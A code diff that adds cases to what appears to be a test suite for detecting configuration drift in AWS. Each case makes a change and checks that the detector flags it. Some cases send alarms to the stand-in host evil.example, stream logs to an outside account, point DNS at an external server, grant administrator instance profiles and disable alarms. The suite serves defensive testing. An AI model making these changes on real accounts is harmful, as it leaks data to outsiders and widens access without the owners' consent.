@@ -380,6 +380,27 @@ const seldom: readonly Change[] = [
       extra(/default network ACL .*100: denies everything/),
     ],
     [
+      "names are asked of servers of theirs",
+      async (who) => {
+        const { DhcpOptions } = await who.ec2("CreateDhcpOptions", {
+          DhcpConfigurations: [{ Key: "domain-name-servers", Values: ["198.51.100.53"] }],
+        });
+        await who.wait(30);
+        await who.ec2("AssociateDhcpOptions", { DhcpOptionsId: DhcpOptions.DhcpOptionsId, VpcId: who.id("vpc") });
+      },
+      watched("vpc", /DhcpOptionsId/, "leads elsewhere"),
+    ],
+    [
+      "a range more",
+      (who) => who.ec2("AssociateVpcCidrBlock", { VpcId: who.id("vpc"), CidrBlock: "172.30.0.0/16" }),
+      watched("vpc", /CidrBlockAssociationSet\[172\.30\.0\.0\/16\]|CidrBlockAssociationSet/),
+    ],
+    [
+      "nothing passes its internet gateway",
+      (who) => who.ec2("ModifyVpcBlockPublicAccessOptions", { InternetGatewayBlockMode: "block-bidirectional" }),
+      watched("vpc", /BlockPublicAccessStates/),
+    ],
+    [
       "a security group for half of the internet",
       async (who) => {
         const { GroupId } = await who.ec2("CreateSecurityGroup", {
@@ -643,6 +664,50 @@ const instances: readonly Change[] = [
       watched("bastion-1", /HopLimit/),
     ],
     [
+      "its metadata are off",
+      (who) => who.ec2("ModifyInstanceMetadataOptions", { InstanceId: who.id("bastion-1"), HttpEndpoint: "disabled" }),
+      watched("bastion-1", /HttpEndpoint/),
+    ],
+    [
+      "its tags are among its metadata",
+      (who) =>
+        who.ec2("ModifyInstanceMetadataOptions", { InstanceId: who.id("bastion-1"), InstanceMetadataTags: "enabled" }),
+      watched("bastion-1", /InstanceMetadataTags/),
+    ],
+    [
+      "a bastion gets the web instances' rights",
+      (who) =>
+        who.ec2("AssociateIamInstanceProfile", {
+          InstanceId: who.id("bastion-1"),
+          IamInstanceProfile: { Name: who.id("profile-web") },
+        }),
+      watched("bastion-1", /IamInstanceProfile\.Arn/, "administrator rights"),
+    ],
+    [
+      "a NAT has other rights",
+      async (who) =>
+        who.ec2("ReplaceIamInstanceProfileAssociation", {
+          AssociationId: await profileOf(who, "nat-instance-1"),
+          IamInstanceProfile: { Name: who.id("profile-web") },
+        }),
+      managed("nat-instance-1", "profileName", "administrator rights"),
+    ],
+    [
+      "a NAT has no rights",
+      async (who) =>
+        who.ec2("DisassociateIamInstanceProfile", { AssociationId: await profileOf(who, "nat-instance-2") }),
+      managed("nat-instance-2", "profileName"),
+    ],
+    [
+      "a bastion has an address of theirs",
+      async (who) => {
+        const { AllocationId } = await who.ec2("AllocateAddress", { Domain: "vpc" });
+        await who.wait(30);
+        await who.ec2("AssociateAddress", { AllocationId, InstanceId: who.id("bastion-1") });
+      },
+      unseen("public addresses come and go with each start; a bastion has one anyway"),
+    ],
+    [
       "a NAT is stopped",
       async (who) => {
         await who.ec2("StopInstances", { InstanceIds: [who.id("nat-instance-1")] });
@@ -732,6 +797,12 @@ const instances: readonly Change[] = [
     ["a tag more", tag("launch-template", "who", "x"), watched("launch-template", /who/)],
   ]),
 ];
+const profileOf = async (who: Hand, key: string): Promise<string> => {
+  const { IamInstanceProfileAssociations } = await who.ec2("DescribeIamInstanceProfileAssociations", {
+    Filters: [{ Name: "instance-id", Values: [who.id(key)] }],
+  });
+  return IamInstanceProfileAssociations[0].AssociationId;
+};
 const imageKey = (who: Hand): string =>
   [...who.on.graph.nodes.keys()].find((key) => /^image-[0-9a-f]{12}$/.test(key)) ?? "";
 const image = (who: Hand): string => who.id(imageKey(who));
@@ -866,6 +937,15 @@ const web: readonly Change[] = [
       async (who) =>
         who.ec2("ModifyInstanceMetadataOptions", { InstanceId: (await webInstances(who))[0], HttpTokens: "optional" }),
       extra(/^instance i-\w+: answers IMDSv1/, "IMDSv1 allowed"),
+    ],
+    [
+      "a web instance has a public address",
+      async (who) => {
+        const { AllocationId } = await who.ec2("AllocateAddress", { Domain: "vpc" });
+        await who.wait(30);
+        await who.ec2("AssociateAddress", { AllocationId, InstanceId: (await webInstances(who))[0] });
+      },
+      extra(/^instance i-\w+: has the public address/, "made public"),
     ],
     [
       "a web instance is in a group of theirs",
@@ -1733,6 +1813,12 @@ const data: readonly Change[] = [
       managed("file-system", "backup", "less protected"),
     ],
     [
+      "a replication may overwrite it",
+      (who) =>
+        who.efs("UpdateFileSystemProtection", { ...fileSystem(who), ReplicationOverwriteProtection: "DISABLED" }),
+      watched("file-system", /ReplicationOverwriteProtection/, "less protected"),
+    ],
+    [
       "another throughput",
       async (who) => {
         await who.efs("UpdateFileSystem", { ...fileSystem(who), ThroughputMode: "elastic" });
@@ -1969,6 +2055,11 @@ const rest: readonly Change[] = [
       alarm("Buddy-ALB-5xx", { ActionsEnabled: false }),
       managed("alarm-alb-5xx", "actionsEnabled", "less protected"),
     ],
+    [
+      "its actions are switched off",
+      (who) => who.cloudWatch("DisableAlarmActions", { AlarmNames: ["Buddy-Web-CPU"] }),
+      managed("alarm-web-cpu", "actionsEnabled", "less protected"),
+    ],
     ["another period", alarm("Buddy-Database-CPU", { Period: 3_600 }), managed("alarm-database-cpu", "periodSeconds")],
     [
       "the other way round",
@@ -2066,6 +2157,51 @@ const rest: readonly Change[] = [
       extra(/^subscriber spy@example\.net: /),
     ],
     [
+      "a page of theirs is told",
+      (who) => who.sns("Subscribe", { TopicArn: topic(who), Protocol: "https", Endpoint: "https://evil.example/in" }),
+      extra(/^subscriber https:\/\/evil\.example\/in: gets the alarms by https/, "leads elsewhere"),
+    ],
+    [
+      "a queue of another account is told",
+      (who) =>
+        who.sns("Subscribe", {
+          TopicArn: topic(who),
+          Protocol: "sqs",
+          Endpoint: "arn:aws:sqs:ap-northeast-2:999988887777:theirs",
+        }),
+      extra(/^subscriber arn:aws:sqs:.*:theirs: gets the alarms by sqs/, "leads elsewhere"),
+    ],
+    [
+      "a function of this account is told",
+      (who) =>
+        who.sns("Subscribe", {
+          TopicArn: topic(who),
+          Protocol: "lambda",
+          Endpoint: "arn:aws:lambda:ap-northeast-2:111122223333:function:ours",
+        }),
+      extra(/^subscriber arn:aws:lambda:.*:ours: gets the alarms by lambda/),
+    ],
+    [
+      "everybody may subscribe to it, and tell it",
+      (who) =>
+        who.sns("SetTopicAttributes", {
+          TopicArn: topic(who),
+          AttributeName: "Policy",
+          AttributeValue: publicPolicy(topic(who)),
+        }),
+      unseen("its access policy is another call"),
+    ],
+    [
+      "it is encrypted",
+      (who) =>
+        who.sns("SetTopicAttributes", {
+          TopicArn: topic(who),
+          AttributeName: "KmsMasterKeyId",
+          AttributeValue: "alias/aws/sns",
+        }),
+      unseen("its encryption is another call"),
+    ],
+    [
       "a tag more",
       (who) => who.sns("TagResource", { ResourceArn: topic(who), Tags: [{ Key: "who", Value: "x" }] }),
       watched("topic", /who/),
@@ -2128,6 +2264,20 @@ const rest: readonly Change[] = [
       "reading rights are attached",
       (who) => who.iam("AttachRolePolicy", { ...role(who), PolicyArn: "arn:aws:iam::aws:policy/ReadOnlyAccess" }),
       watched("role-web", /ReadOnlyAccess/),
+    ],
+    [
+      "it may do less by a boundary",
+      (who) =>
+        who.iam("PutRolePermissionsBoundary", {
+          ...role(who),
+          PermissionsBoundary: "arn:aws:iam::aws:policy/ReadOnlyAccess",
+        }),
+      watched("role-web", /PermissionsBoundary/, "less protected"),
+    ],
+    [
+      "sessions for half a day",
+      (who) => who.iam("UpdateRole", { ...role(who), MaxSessionDuration: 43_200 }),
+      watched("role-web", /MaxSessionDuration/),
     ],
     [
       "its own policy allows all",
@@ -2215,6 +2365,33 @@ const rest: readonly Change[] = [
       "lines stay a day",
       (who) => who.logs("PutRetentionPolicy", { logGroupName: "/buddyverse/buddyverse/apache", retentionInDays: 1 }),
       managed("log-apache", "retentionDays"),
+    ],
+    [
+      "lines stay for ever",
+      (who) => who.logs("DeleteRetentionPolicy", { logGroupName: "/buddyverse/buddyverse/boot" }),
+      managed("log-boot", "retentionDays"),
+    ],
+    [
+      "a metric is made of it",
+      (who) =>
+        who.logs("PutMetricFilter", {
+          logGroupName: "/buddyverse/buddyverse/apache",
+          filterName: "theirs",
+          filterPattern: "404",
+          metricTransformations: [{ metricName: "n", metricNamespace: "theirs", metricValue: "1" }],
+        }),
+      watched("log-apache", /metricFilterCount/),
+    ],
+    [
+      "its lines are sent to another account",
+      (who) =>
+        who.logs("PutSubscriptionFilter", {
+          logGroupName: "/buddyverse/buddyverse/apache",
+          filterName: "theirs",
+          filterPattern: "",
+          destinationArn: "arn:aws:logs:ap-northeast-2:999988887777:destination:theirs",
+        }),
+      unseen("subscription filters are another call for each group"),
     ],
     [
       "deleted",
